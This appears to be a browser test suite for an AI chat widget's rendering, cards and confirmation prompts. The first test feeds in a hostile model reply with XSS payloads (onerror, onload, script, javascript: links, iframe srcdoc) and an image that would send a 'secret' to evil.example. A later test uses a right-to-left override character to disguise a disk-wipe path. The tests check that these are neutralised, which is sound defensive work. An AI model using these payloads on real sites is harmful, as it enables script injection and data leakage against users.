import { expect, it } from 'vitest';
import { describeInBrowser } from '../support/browser.ts';
import { calling, chunk, ending, type ModelScript, saying } from '../support/scripted-model.ts';
import { scriptedServer } from '../support/scripted-server.ts';

const hostileReply = [
  '# Title <img src=x onerror="window.ran=1">',
  '<script>window.ran=2</script>',
  '[click](javascript:window.ran=3) [ok](https://x.example/)',
  '![pixel](https://evil.example/?secret=1)',
  '| a | b |\n|---|---|\n| <svg onload=window.ran=4> | 2 |',
  '```html\n<iframe srcdoc="<script>parent.ran=5</script>"></iframe>\n```',
].join('\n\n');

/** Sends a text one character at a time. */
const letterByLetter =
  (text: string): ModelScript =>
  async (exchange) => {
    for (const content of text) await exchange.send(chunk({ content }));
    await exchange.send(ending());
    exchange.end();
  };

const cardPlugin = `
import { card, definePlugin } from 'helper';
const form = {
  type: 'AdaptiveCard', version: '1.5', fallbackText: 'A form',
  body: [
    { type: 'TextBlock', text: '<b>Your wish</b>', weight: 'Bolder' },
    { type: 'Image', url: 'https://evil.example/a.png', altText: 'A pixel' },
    { type: 'Input.Text', id: 'wish', label: 'Wish', isRequired: true },
    { type: 'Input.Toggle', id: 'gift', title: 'As a gift' },
    { type: 'Input.ChoiceSet', id: 'size', label: 'Size', value: 'm', choices: [{ title: 'M', value: 'm' }, { title: 'L', value: 'l' }] },
    { type: 'Chart.Bar', title: 'Wishes', data: [{ x: 'Mon', y: 2 }, { x: 'Tue', y: 5 }] },
  ],
  actions: [
    { type: 'Action.Submit', title: 'Send it', data: { step: 1 } },
    { type: 'Action.OpenUrl', title: 'Bad', url: 'javascript:window.ran=6' },
  ],
};
export default definePlugin({
  name: 'test-plugin',
  actions: [{
    name: 'show_form', title: 'Show the form', description: 'Shows a form.', readOnly: true,
    parameters: { type: 'object', properties: {} },
    execute: () => card({ shown: true }, form),
  }, {
    name: 'wipe', title: 'Wipe \\u202eevil', description: 'Wipes a disk.',
    parameters: { type: 'object', properties: { path: { type: 'string', title: 'Path' }, options: { type: 'object' } } },
    execute: () => ({ done: true }),
  }],
});
`;

describeInBrowser('what others wrote', (pages) => {
  it('nothing a model says runs, loads or leaves, however it is cut', async () => {
    const { url } = await scriptedServer({ scripts: [letterByLetter(hostileReply)] });
    const { page, messages, log, openPanel, say } = await pages.open(url, { bypassCSP: true });
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    await openPanel();
    await say('Attack');
    await log.locator('pre').waitFor();
    const bubble = log.locator('.from-bot .bubble');
    await bubble.getByText('Title <img src=x').waitFor();
    await expect.poll(() => bubble.locator('img, script, iframe, svg, [onload], [onerror]').count()).toBe(0);
    const links = bubble.locator('a');
    await expect.poll(() => links.count()).toBe(1);
    expect(await links.first().getAttribute('rel')).toBe('noopener noreferrer nofollow');
    await bubble.getByText('click').click();
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(requested.filter((address) => address.includes('evil'))).toEqual([]);
    expect(messages).toEqual([]);
  });

  it('code has the name of its language, and a button of its own that copies it (contract/widget.md#looks)', async () => {
    const code = `SELECT number FROM orders WHERE ${'state = 1 OR '.repeat(12)}1;\n-- done`;
    const { url } = await scriptedServer({ scripts: [saying(`So:\n\n\`\`\`sql\n${code}\n\`\`\`\n\nThat is all.`)] });
    const { page, log, openPanel, say } = await pages.open(url, { permissions: ['clipboard-read', 'clipboard-write'] });
    await openPanel();
    await say('How?');
    const block = log.locator('pre');
    await block.waitFor();
    const shown = `document.querySelector('helper-widget').shadowRoot.querySelector('pre')`;
    expect(await page.evaluate(`getComputedStyle(${shown}, '::before').content`)).toBe('"sql"');
    const button = block.getByRole('button', { name: 'Copy' });
    await button.click();
    await block.getByRole('button', { name: 'Copied' }).waitFor();
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe(code);

    // However far the code is scrolled, the button stays where it is.
    const place = await button.boundingBox();
    expect(await page.evaluate(`${shown}.scrollLeft = 400, ${shown}.scrollLeft`)).toBe(400);
    await button.waitFor();
    expect((await button.boundingBox())?.x).toBeCloseTo(place?.x ?? 0, -1);
  });

  it('a card asks for what it needs, is sent once, and comes back as the user’s turn (contract/cards.md)', async () => {
    const { url, model } = await scriptedServer({
      plugin: cardPlugin,
      scripts: [calling({ name: 'show_form', arguments: {} }), saying('Fill it in.'), saying('Thank you.')],
    });
    const { page, panel, log, openPanel, say } = await pages.open(url, { bypassCSP: true });
    await openPanel();
    await say('Form please');
    await log.getByText('Fill it in.').waitFor();
    const card = panel.locator('.card');
    await card.getByText('<b>Your wish</b>').waitFor();
    await expect.poll(() => card.locator('img').count()).toBe(0);
    await expect.poll(() => card.getByText('Bad').count()).toBe(0);
    await card.getByText('Show data').click();
    expect(await card.locator('.chart td').allTextContents()).toEqual(['', '2', '5']);

    await card.getByRole('button', { name: 'Send it' }).click();
    await card.getByText('Please fill in: Wish').waitFor();
    await card.getByLabel('Wish').fill('A train');
    await card.getByLabel('As a gift').check();
    await card.getByLabel('Size').selectOption('l');
    await card.getByRole('button', { name: 'Send it' }).click();
    await log.getByText('Sent: Send it').waitFor();
    await log.getByText('Thank you.').waitFor();
    expect(await card.getByRole('button', { name: 'Send it' }).getAttribute('aria-disabled')).toBe('true');
    const sent = JSON.stringify((await model.request(2)).body);
    for (const word of ['A train', 'gift', 'step']) expect(sent).toContain(word);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    await page.reload();
    await log.getByText('Sent: Send it').waitFor();
  });

  // proves wire-5-12
  it('what is asked is shown whole, and nothing in it hides (contract/confirmations.md#what-is-shown)', async () => {
    const path = `/tmp/\u202etxt.${'x'.repeat(400)}END`;
    const { url } = await scriptedServer({
      plugin: cardPlugin,
      scripts: [calling({ name: 'wipe', arguments: { path, options: { force: true } } })],
    });
    const { panel, openPanel, say } = await pages.open(url);
    await openPanel();
    await say('Wipe');
    const question = panel.locator('.confirmation');
    await question.waitFor();
    expect(await question.locator('.confirm-title').textContent()).toBe('Wipe \\u{202E}evil');
    const value = question.locator('dd .value').first();
    expect(await value.textContent()).toBe(path.replace('\u202e', '\\u{202E}'));
    expect(await value.locator('mark').textContent()).toBe('\\u{202E}');
    expect(await question.locator('dd .value').nth(1).textContent()).toBe('{\n  "force": true\n}');
    const folded = (await value.boundingBox())?.height ?? 0;
    await question.getByRole('button', { name: 'Show all' }).click();
    expect((await value.boundingBox())?.height ?? 0).toBeGreaterThan(folded);
    await question.getByRole('button', { name: 'Show less' }).waitFor();
  });

  it('follows a growing answer, unless somebody has scrolled up to read', async () => {
    const gate = Promise.withResolvers<undefined>();
    const lines = (from: number): string =>
      Array.from({ length: 60 }, (_, index) => `Line ${String(from + index)}\n\n`).join('');
    const { url } = await scriptedServer({
      scripts: [
        async (exchange) => {
          await exchange.send(chunk({ content: lines(0) }));
          await gate.promise;
          await exchange.send(chunk({ content: lines(60) }) + ending());
          exchange.end();
        },
      ],
    });
    const { page, panel, log, openPanel, say } = await pages.open(url);
    await openPanel();
    await say('Count');
    await log.getByText('Line 59').waitFor();
    const box = `document.querySelector('helper-widget').shadowRoot.querySelector('.log')`;
    const fromEnd = (): Promise<number> =>
      page.evaluate<number>(`${box}.scrollHeight - ${box}.scrollTop - ${box}.clientHeight`);
    await expect.poll(fromEnd).toBeLessThanOrEqual(48);
    await log.hover();
    await page.mouse.wheel(0, -3000);
    await panel.getByRole('button', { name: 'Jump to latest' }).waitFor();
    gate.resolve(undefined);
    await log.getByText('Line 119').waitFor({ state: 'attached' });
    expect(await fromEnd()).toBeGreaterThan(500);
    await panel.getByRole('button', { name: 'Jump to latest' }).click();
    await expect.poll(fromEnd).toBeLessThanOrEqual(48);
  });
});
